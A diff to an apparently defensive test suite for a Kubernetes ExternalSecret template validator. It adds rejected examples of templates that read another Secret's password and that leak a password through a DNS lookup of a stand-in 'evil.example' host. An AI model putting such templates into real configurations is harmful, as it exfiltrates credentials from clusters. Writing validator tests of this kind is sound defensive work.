@@ -167,6 +167,21 @@ const EXTERNAL_CASES: readonly Case[] = [
   })),
   ...notKeys().map(([bad, good, reason]) => ({ reason, bad: data(bad), good: data(good), at: `${ENTRY}.data`, says: NOT_A_KEY })),
   {
+    reason: "a template reads no other Secret",
+    bad: template({ data: { "a.b": '{{ getSecretKey "other" "db" "password" }}' } }),
+    good: template({ data: { "a.b": "{{ .password }}" } }),
+    at: `${ENTRY}.target.template.data["a.b"]`,
+    says: "a template reads no Secrets by itself: remove getSecretKey, and fetch the value by `data` or `dataFrom`",
+    server: "a template reads no Secrets by itself: remove getSecretKey",
+  },
+  {
+    reason: "a template asks no name server",
+    bad: template({ data: { "a.b": '{{- $x := .password -}}{{ getHostByName (printf "%s.evil.example" $x) }}' } }),
+    good: template({ data: { "a.b": "{{ .host }}.example" } }),
+    at: `${ENTRY}.target.template.data["a.b"]`,
+    says: "a template asks no name servers, by which values could leave the cluster: remove getHostByName",
+  },
+  {
     reason: "a template makes keys of a Secret",
     bad: template({ data: { "a/b": "x" } }),
     good: template({ data: { "a.b": "x" } }),
